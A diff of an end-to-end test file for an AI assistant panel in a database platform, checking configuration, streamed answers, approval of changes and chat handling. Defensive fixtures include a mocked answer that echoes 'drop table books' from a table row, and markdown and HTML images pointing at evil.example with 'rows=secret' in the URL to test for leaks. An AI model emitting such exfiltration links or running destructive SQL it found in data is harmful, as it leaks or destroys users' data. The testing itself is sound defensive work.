@@ -1,47 +1,39 @@
-import type { Browser, Page } from 'playwright-core'
-import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { Page } from 'playwright-core'
+import { beforeAll, expect } from 'vitest'
 import { startModelServer, type ModelServerInTests } from '#control-plane/testing/model-server'
 import { answer, block, keptChats, sellBooks } from './testing/assistant-world.ts'
-import { openBrowser, watch, type Eyes } from './testing/browser.ts'
-import { createOrganization, createProject, reaches, runSql, signUp } from './testing/client.ts'
-import type { Person } from './testing/client.ts'
-import { startPlatform, type Platform } from './testing/platform.ts'
+import { openPage, type Eyes } from './testing/browser.ts'
+import { createOrganization, createProject, reaches, runSql } from './testing/client.ts'
+import type { Account } from './testing/client.ts'
+import { atEnd } from './testing/ends.ts'
+import { newPerson } from './testing/people.ts'
+import type { Platform } from './testing/platform.ts'
+import { ownPlatform } from './testing/shared-platform.ts'
+import { story } from './testing/story.ts'
 
 let model: ModelServerInTests
 let platform: Platform
-let browser: Browser
 let page: Page
 let eyes: Eyes
-let ada: Person
+let ada: Account
 let ref: string
 /** Addresses outside of the platform that the browser wanted something from. */
 const elsewhere: string[] = []
-
-const email = 'ada@example.com'
-const password = 'Str0ng-enough!'
 beforeAll(async () => {
   model = await startModelServer(() => answer('Hello.'))
+  atEnd(() => model.close())
   // Not configured at first: the second start of the same home has a model.
-  platform = await startPlatform()
-  ada = await signUp(platform.url, email, password)
+  platform = await ownPlatform()
+  ada = await newPerson(platform)
   const slug = await createOrganization(ada, 'Acme')
   ref = (await createProject(ada, slug, 'Library')).ref
   await reaches(ada, ref, ['ACTIVE_HEALTHY'])
   await sellBooks(ada, ref)
-  browser = await openBrowser()
-  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } })
-  page = await context.newPage()
-  page.setDefaultTimeout(30_000)
-  eyes = watch(page)
+  ;({ page, eyes } = await openPage(platform, { as: ada }))
   page.on('request', (request) => {
     const { hostname } = new URL(request.url())
     if (!['localhost', '127.0.0.1', ''].includes(hostname)) elsewhere.push(request.url())
   })
-})
-afterAll(async () => {
-  await browser?.close()
-  await platform?.dispose()
-  await model?.close()
 })
 
 const panel = () => page.getByRole('complementary', { name: 'Assistant' })
@@ -63,49 +55,54 @@ const menu = async (item: string) => {
   await page.getByRole('menuitem', { name: item }).click()
 }
 
-test('without a model the panel says how to configure one, and its box why it is closed', async () => {
-  await page.goto(`${platform.url}/sign-in`)
-  await page.getByLabel('Email').fill(email)
-  await page.getByLabel('Password', { exact: true }).fill(password)
-  await page.getByRole('button', { name: 'Sign in', exact: true }).click()
-  await page.getByRole('heading', { name: 'Organizations' }).first().waitFor()
-  expect(await page.getByRole('button', { name: 'Assistant' }).count()).toBe(0)
+const step = story('the assistant, from no model to answers that are run')
 
-  await open()
-  await page.getByRole('button', { name: 'Assistant' }).click()
-  await panel().getByText('No model is configured').first().waitFor()
-  await panel().getByText('OPENAI_API_KEY').waitFor()
-  expect(await box().isDisabled()).toBe(true)
-  await eyes.look('60-assistant-off')
-  await page.getByRole('button', { name: 'Close the assistant' }).click()
-  await panel().waitFor({ state: 'hidden' })
-})
+step(
+  'without a model the panel says how to configure one, and its box why it is closed',
+  async () => {
+    await page.goto(`${platform.url}/organizations`)
+    await page.getByRole('heading', { name: 'Organizations' }).first().waitFor()
+    expect(await page.getByRole('button', { name: 'Assistant' }).count()).toBe(0)
 
-test('the address forces the panel open or closed; the hotkey and a reload do not lose it', async () => {
-  const { home, ports } = platform
-  await platform.stop()
-  platform = await startPlatform({
-    home,
-    ports,
-    environment: { OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'sk-of-the-platform-0123456789' },
-  })
-  await reaches(ada, ref, ['ACTIVE_HEALTHY'])
-  await open('?aiAssistantPanelOpen=true')
-  await panel().waitFor()
-  await expect.poll(() => page.url()).not.toContain('aiAssistantPanelOpen')
-  await open('?aiAssistantPanelOpen=false')
-  await page.getByRole('button', { name: 'Assistant' }).waitFor()
-  await expect.poll(() => page.url()).not.toContain('aiAssistantPanelOpen')
-  await expect.poll(() => panel().count()).toBe(0)
-  await page.keyboard.press('ControlOrMeta+i')
-  await panel().waitFor()
-  await expect.poll(() => box().evaluate((element) => element.matches(':focus'))).toBe(true)
-  await expect.poll(() => keptChats(page, ref)).toContain('"open":true')
-  await page.reload()
-  await panel().waitFor()
-})
+    await open()
+    await page.getByRole('button', { name: 'Assistant' }).click()
+    await panel().getByText('No model is configured').first().waitFor()
+    await panel().getByText('OPENAI_API_KEY').waitFor()
+    expect(await box().isDisabled()).toBe(true)
+    await eyes.look('60-assistant-off')
+    await page.getByRole('button', { name: 'Close the assistant' }).click()
+    await panel().waitFor({ state: 'hidden' })
+  },
+)
 
-test('an answer streams; its SQL runs on a click, in a transaction that only reads', async () => {
+step(
+  'the address forces the panel open or closed; the hotkey and a reload do not lose it',
+  async () => {
+    const { home, ports } = platform
+    await platform.stop()
+    platform = await ownPlatform({
+      home,
+      ports,
+      environment: { OPENAI_BASE_URL: model.url, OPENAI_API_KEY: 'sk-of-the-platform-0123456789' },
+    })
+    await reaches(ada, ref, ['ACTIVE_HEALTHY'])
+    await open('?aiAssistantPanelOpen=true')
+    await panel().waitFor()
+    await expect.poll(() => page.url()).not.toContain('aiAssistantPanelOpen')
+    await open('?aiAssistantPanelOpen=false')
+    await page.getByRole('button', { name: 'Assistant' }).waitFor()
+    await expect.poll(() => page.url()).not.toContain('aiAssistantPanelOpen')
+    await expect.poll(() => panel().count()).toBe(0)
+    await page.keyboard.press('ControlOrMeta+i')
+    await panel().waitFor()
+    await expect.poll(() => box().evaluate((element) => element.matches(':focus'))).toBe(true)
+    await expect.poll(() => keptChats(page, ref)).toContain('"open":true')
+    await page.reload()
+    await panel().waitFor()
+  },
+)
+
+step('an answer streams; its SQL runs on a click, in a transaction that only reads', async () => {
   model.answerWith(() =>
     answer(
       'The **most sold** book, see [the manual](https://www.postgresql.org/docs/17/sql-select.html):',
@@ -134,7 +131,7 @@ test('an answer streams; its SQL runs on a click, in a transaction that only rea
   expect(body?.tools).toBeUndefined()
 })
 
-test('what a row says is no order: nothing runs, and results do not reach the model', async () => {
+step('what a row says is no order: nothing runs, and results do not reach the model', async () => {
   model.answerWith(() => answer('As the row says:', block('drop table books')))
   await ask('Summarize what I ran')
   await said('As the row says:')
@@ -151,7 +148,7 @@ test('what a row says is no order: nothing runs, and results do not reach the mo
   expect(await runSql(ada, ref, 'select count(*)::int as n from books')).toEqual([{ n: 3 }])
 })
 
-test('a change runs after its person has seen the statement and allowed it', async () => {
+step('a change runs after its person has seen the statement and allowed it', async () => {
   model.answerWith(() => answer('Then:', block('update books set sold = 31 where id = 2')))
   await ask('Correct the number')
   await said('Then:')
@@ -181,7 +178,7 @@ test('a change runs after its person has seen the statement and allowed it', asy
   expect(await runSql(ada, ref, 'select sold from books where id = 2')).toEqual([{ sold: 31 }])
 })
 
-test('images and links of an answer leak nothing, HTML stays text', async () => {
+step('images and links of an answer leak nothing, HTML stays text', async () => {
   model.answerWith(() =>
     answer(
       '![pixel](https://evil.example/pixel.png?rows=secret) <img src="https://evil.example/html.png"> ',
@@ -200,7 +197,7 @@ test('images and links of an answer leak nothing, HTML stays text', async () => 
   expect(elsewhere).toEqual([])
 })
 
-test('a failed query is offered back; stop, retry and edit ask anew', async () => {
+step('a failed query is offered back; stop, retry and edit ask anew', async () => {
   model.answerWith(() => answer('Try:', block('select nonsense from books')))
   await ask('Try something')
   await said('Try:')
@@ -228,7 +225,7 @@ test('a failed query is offered back; stop, retry and edit ask anew', async () =
   expect(await panel().getByRole('article').count()).toBe(2)
 })
 
-test('tables and queries are attached to a question', async () => {
+step('tables and queries are attached to a question', async () => {
   await press('Attach tables and queries')
   await page.getByRole('option', { name: /books/ }).click()
   await panel().getByRole('list', { name: 'Attached' }).getByText('public.books').waitFor()
@@ -238,7 +235,7 @@ test('tables and queries are attached to a question', async () => {
   expect(JSON.stringify(model.asked.at(-1)?.body)).toContain('public.books')
 })
 
-test('chats are made, found, renamed, deleted, and survive a reload', async () => {
+step('chats are made, found, renamed, deleted, and survive a reload', async () => {
   await menu('Rename')
   await page.getByRole('dialog').getByLabel('Name').fill('Sales')
   await page.getByRole('dialog').getByRole('button', { name: 'Rename' }).click()
@@ -266,7 +263,7 @@ test('chats are made, found, renamed, deleted, and survive a reload', async () =
   await panel().getByText('Ask about this project').first().waitFor()
 })
 
-test('SQL goes on in the SQL editor; on a phone the panel fills the screen', async () => {
+step('SQL goes on in the SQL editor; on a phone the panel fills the screen', async () => {
   model.answerWith(() => answer('Here:', block('select title from books')))
   await ask('List them')
   await said('Here:')
@@ -281,7 +278,7 @@ test('SQL goes on in the SQL editor; on a phone the panel fills the screen', asy
   await panel().waitFor({ state: 'hidden' })
 })
 
-test('signing out forgets every chat; nothing of this went anywhere else', async () => {
+step('signing out forgets every chat; nothing of this went anywhere else', async () => {
   await page.goto(`${platform.url}/logout`)
   await page.getByRole('heading', { name: 'Sign in' }).waitFor()
   const names = await page.evaluate(async () =>
